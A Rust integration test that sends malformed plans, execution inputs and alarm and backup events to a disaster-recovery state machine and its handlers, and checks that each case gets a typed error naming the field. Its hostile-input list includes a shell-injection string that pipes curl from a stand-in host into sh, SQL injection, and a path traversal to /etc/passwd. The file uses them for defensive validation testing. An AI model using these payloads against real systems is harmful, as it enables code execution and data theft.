//! Malformed input at every entry point, generated: plans and execution inputs through the real
//! state machine, alarm and backup events into the deployed handlers. Wrong types, missing
//! fields, huge values, unicode and control characters, injection strings, ARNs of other
//! accounts, regions and partitions: each gets a typed `Backstop.*` error whose message names
//! the field, and nothing is created in the DR region or started.

use std::collections::BTreeMap;
use std::time::Duration;

use backstop_tests::{invoke, repo_root, run_ended, start_run, Emulator, Scenario};
use serde_json::{json, Value};

use crate::hardening::dr_inventory;

/// One malformed input: what it is, the field its error must name, and where it goes.
struct Case {
    what: String,
    field: String,
    to: Entry,
}

enum Entry {
    /// An execution input, started on the state machine.
    Execution(Value),
    /// An event, invoked on the handler `binary`.
    Event(&'static str, Value),
}

/// `/resources/0/ebs/availabilityZone` -> `resources[0].ebs.availabilityZone`
fn field_of(pointer: &str) -> String {
    let mut field = String::new();
    for part in pointer.trim_start_matches('/').split('/') {
        if part.parse::<usize>().is_ok() {
            field.push_str(&format!("[{part}]"));
        } else {
            if !field.is_empty() {
                field.push('.');
            }
            field.push_str(part);
        }
    }
    field
}

/// `value` with the field at `pointer` set (`Some`) or removed (`None`).
fn edited(value: &Value, pointer: &str, new: Option<Value>) -> Value {
    let mut value = value.clone();
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    match (value.pointer_mut(parent), new) {
        (Some(Value::Object(object)), Some(new)) => {
            object.insert(key.to_string(), new);
        }
        (Some(Value::Object(object)), None) => {
            object.remove(key).unwrap_or_else(|| panic!("no {pointer}"));
        }
        (Some(Value::Array(array)), Some(new)) => array[key.parse::<usize>().unwrap()] = new,
        _ => panic!("cannot edit {pointer}"),
    }
    value
}

/// Strings an attacker or a broken tool would put anywhere.
fn hostile_strings() -> Vec<(&'static str, Value)> {
    vec![
        ("huge", json!("x".repeat(100_000))),
        ("control characters", json!("shop\u{0000}\u{0007}\n\r")),
        (
            "unicode direction override",
            json!("app\u{202e}moc.elpmaxe"),
        ),
        ("emoji", json!("🔥💾")),
        ("SQL injection", json!("'; DROP TABLE plans; --")),
        ("shell injection", json!("$(curl evil.example | sh)")),
        ("JSON injection", json!("\"}],\"mode\":\"failover")),
        ("path traversal", json!("../../../etc/passwd")),
    ]
}

fn plan_cases(plan: &Value) -> Vec<Case> {
    let mut cases = Vec::new();
    let mut add = |what: String, field: String, plan: Value| {
        cases.push(Case {
            what,
            field,
            to: Entry::Execution(json!({ "mode": "drill", "plan": plan })),
        })
    };
    // wrong types
    for (pointer, wrong) in [
        ("/name", json!(42)),
        ("/drRegion", json!(["us-west-2"])),
        ("/backupVault", json!({ "name": "backstop-dr" })),
        ("/objectives", json!("fast")),
        ("/objectives/rtoMinutes", json!("sixty")),
        ("/resources", json!({})),
        ("/resources/0/arn", json!(12345)),
        ("/resources/0/kind", json!(true)),
        ("/resources/0/ebs/availabilityZone", json!([])),
        ("/resources/2/rds/vpcSecurityGroupIds", json!("sg-1")),
        ("/instances/0/instanceTypes", json!("m5.large")),
        ("/instances/0/subnetIds", json!(null)),
        ("/dns/0/ttl", json!("sixty")),
        ("/dns/0/hostedZoneId", json!(7)),
    ] {
        add(
            format!("{pointer} of the wrong type"),
            field_of(pointer),
            edited(plan, pointer, Some(wrong)),
        );
    }
    // missing fields
    for pointer in [
        "/name",
        "/drRegion",
        "/backupVault",
        "/resources/0/arn",
        "/resources/0/kind",
        "/resources/2/rds/dbSubnetGroupName",
        "/instances/0/ami",
        "/dns/0/recordName",
    ] {
        add(
            format!("{pointer} missing"),
            field_of(pointer)
                .rsplit_once(['.'])
                .map_or_else(|| field_of(pointer), |(_, last)| last.to_string()),
            edited(plan, pointer, None),
        );
    }
    // huge numbers
    for (pointer, huge) in [
        ("/objectives/rtoMinutes", json!(1e300)),
        ("/objectives/rpoMinutes", json!(-5)),
        ("/dns/0/ttl", json!(u64::MAX)),
    ] {
        add(
            format!("{pointer} = {huge}"),
            field_of(pointer),
            edited(plan, pointer, Some(huge)),
        );
    }
    // hostile strings where names, zones, devices and records go
    for (pointer, (what, text)) in [
        "/name",
        "/resources/0/name",
        "/resources/0/ebs/availabilityZone",
        "/resources/0/ebs/attachTo/device",
        "/instances/0/name",
        "/dns/0/recordName",
        "/backupVault",
        "/drRegion",
    ]
    .into_iter()
    .zip(hostile_strings())
    {
        add(
            format!("{pointer}: {what}"),
            field_of(pointer),
            edited(plan, pointer, Some(text)),
        );
    }
    // ARNs the DR vault cannot hold for this plan
    let arn = plan["resources"][0]["arn"].as_str().unwrap();
    for (what, foreign) in [
        (
            "another region",
            arn.replace(":us-east-1:", ":eu-central-1:"),
        ),
        (
            "another partition",
            arn.replace("arn:aws:", "arn:aws-cn:")
                .replace(":us-east-1:", ":cn-north-1:"),
        ),
        (
            "another account",
            arn.replace(":123456789012:", ":999999999999:"),
        ),
        ("not an ARN", "vol-0123456789abcdef0".to_string()),
        ("another service", arn.replace(":ec2:", ":s3:")),
    ] {
        // another account's resource may be copied into this vault (AWS Backup copies across
        // accounts), so the plan is valid: readiness finds it has no DR copy and names it
        let field = match what {
            "another account" => plan["resources"][0]["name"].as_str().unwrap().to_string(),
            _ => "resources[0].arn".into(),
        };
        add(
            format!("resources[0].arn of {what}"),
            field,
            edited(plan, "/resources/0/arn", Some(json!(foreign))),
        );
    }
    cases
}

fn input_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let base = json!({ "mode": "drill", "planParameter": "/backstop/plan", "settings": {} });
    for (pointer, wrong) in [
        ("/mode", json!(1)),
        ("/mode", json!("FAILOVER ")),
        ("/planParameter", json!(["/backstop/plan"])),
        ("/planParameter", json!("/backstop/plan\u{0000}")),
        ("/planParameter", json!(format!("/{}", "p".repeat(3000)))),
        ("/pointInTime", json!(1_764_000_000)),
        ("/pointInTime", json!("2026-13-45T99:00:00Z")),
        ("/resumeRunId", json!("../../state")),
        ("/resumeRunId", json!("r".repeat(200))),
        ("/acceptWarnings", json!(1)),
        ("/trigger", json!([1, 2])),
        ("/settings", json!("fast")),
        ("/settings/pollIntervalSeconds", json!(-30)),
    ] {
        cases.push(Case {
            what: format!("input {pointer} = {}", shortened(&wrong)),
            field: field_of(pointer).rsplit('.').next().unwrap().to_string(),
            to: Entry::Execution(edited(&base, pointer, Some(wrong))),
        });
    }
    cases
}

fn shortened(value: &Value) -> String {
    value.to_string().chars().take(40).collect()
}

fn fixture(name: &str) -> Value {
    let path = repo_root().join("tests/events").join(name);
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn event_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let alarm = fixture("cloudwatch-alarm-state-change-metric.json");
    let action = fixture("cloudwatch-alarm-action-metric.json");
    for (what, field, event) in [
        ("an array", "event", json!([alarm.clone()])),
        ("a string", "event", json!("ALARM")),
        (
            "from another source",
            "source",
            edited(&alarm, "/source", Some(json!("aws.ec2"))),
        ),
        ("without detail", "detail", edited(&alarm, "/detail", None)),
        (
            "with a numeric state",
            "state",
            edited(&alarm, "/detail/state/value", Some(json!(5))),
        ),
        (
            "as an alarm action whose alarm ARN is not one",
            "alarmArn",
            edited(&action, "/alarmArn", Some(json!("' OR 1=1 --"))),
        ),
        (
            "as an alarm action without its alarm data",
            "detail-type",
            edited(&action, "/alarmData", None),
        ),
        (
            "with a huge alarm name",
            "alarmName",
            edited(
                &alarm,
                "/detail/alarmName",
                Some(json!("a".repeat(100_000))),
            ),
        ),
        (
            "with control characters in the alarm name",
            "alarmName",
            edited(
                &alarm,
                "/detail/alarmName",
                Some(json!("primary\u{0000}down")),
            ),
        ),
    ] {
        cases.push(Case {
            what: format!("alarm event {what}"),
            field: field.into(),
            to: Entry::Event("start-failover", event),
        });
    }
    let copy = fixture("backup-copy-job-completed.json");
    for (what, field, event) in [
        (
            "of another detail-type",
            "detail-type",
            edited(
                &copy,
                "/detail-type",
                Some(json!("Restore Job State Change")),
            ),
        ),
        ("without detail", "detail", edited(&copy, "/detail", None)),
        (
            "with a numeric state",
            "state",
            edited(&copy, "/detail/state", Some(json!(42))),
        ),
        (
            "with a size that is not a number",
            "backupSizeInBytes",
            edited(&copy, "/detail/backupSizeInBytes", Some(json!("lots"))),
        ),
        (
            "with a resource ARN that is not an ARN",
            "resourceArn",
            edited(
                &copy,
                "/detail/resourceArn",
                Some(json!("'; DROP TABLE --")),
            ),
        ),
        (
            "with a job id that is not a string",
            "copyJobId",
            edited(&copy, "/detail/copyJobId", Some(json!({ "id": 1 }))),
        ),
    ] {
        cases.push(Case {
            what: format!("copy event {what}"),
            field: field.into(),
            to: Entry::Event("on-backup-event", event),
        });
    }
    cases
}

/// The error name and message a case ended with.
async fn outcome(
    emulator: &Emulator,
    machine: &str,
    functions: &BTreeMap<&str, String>,
    index: usize,
    case: &Case,
) -> (String, String) {
    match &case.to {
        Entry::Execution(input) => {
            let execution = start_run(
                emulator,
                machine,
                &format!("malformed-{index}"),
                input.clone(),
            )
            .await;
            let ended = run_ended(emulator, &execution, Duration::from_secs(120)).await;
            assert_eq!(ended.status().as_str(), "FAILED", "{}", case.what);
            (
                ended.error().unwrap_or_default().to_string(),
                ended.cause().unwrap_or_default().to_string(),
            )
        }
        Entry::Event(binary, event) => match invoke(emulator, &functions[binary], event).await {
            Ok(output) => panic!("{}: accepted, answered {output}", case.what),
            Err(error) => error,
        },
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_plans_inputs_and_events_get_a_typed_error_naming_the_field_and_create_nothing() {
    let scenario = Scenario::protected("malformed").await;
    let functions: BTreeMap<&str, String> = ["start-failover", "on-backup-event"]
        .into_iter()
        .map(|binary| (binary, scenario.stack.function(binary)))
        .collect();
    // the plan the handlers read, as a deployed stack has it
    let plan = scenario.plan();
    scenario
        .dr
        .ssm
        .put_parameter()
        .name(scenario.stack.output("PlanParameterName"))
        .value(plan.to_string())
        .r#type(aws_sdk_ssm::types::ParameterType::String)
        .send()
        .await
        .expect("store the plan");
    let before = dr_inventory(&scenario).await;

    let cases: Vec<Case> = plan_cases(&plan)
        .into_iter()
        .chain(input_cases())
        .chain(event_cases())
        .collect();
    assert!(cases.len() >= 60, "{} cases", cases.len());

    let mut wrong = Vec::new();
    for (index, case) in cases.iter().enumerate() {
        let (error, message) = outcome(
            &scenario.emulator,
            &scenario.machine(),
            &functions,
            index,
            case,
        )
        .await;
        let typed = matches!(
            error.as_str(),
            "Backstop.InvalidPlan"
                | "Backstop.InvalidInput"
                | "Backstop.NotFound"
                | "Backstop.NotReady"
        );
        if !typed || !message.contains(&case.field) {
            wrong.push(format!(
                "{}: {error}: {} (should name {})",
                case.what,
                message.chars().take(300).collect::<String>(),
                case.field
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} cases without a typed error naming the field:\n{}",
        wrong.len(),
        cases.len(),
        wrong.join("\n")
    );

    assert_eq!(dr_inventory(&scenario).await, before, "nothing created");
    // the events started no failover (the only executions are the cases' own)
    let sfn = &scenario.dr.sfn;
    let executions = sfn
        .list_executions()
        .state_machine_arn(scenario.machine())
        .send()
        .await
        .unwrap();
    assert!(
        executions
            .executions()
            .iter()
            .all(|e| e.name().starts_with("malformed-")),
        "an event started a run"
    );
}
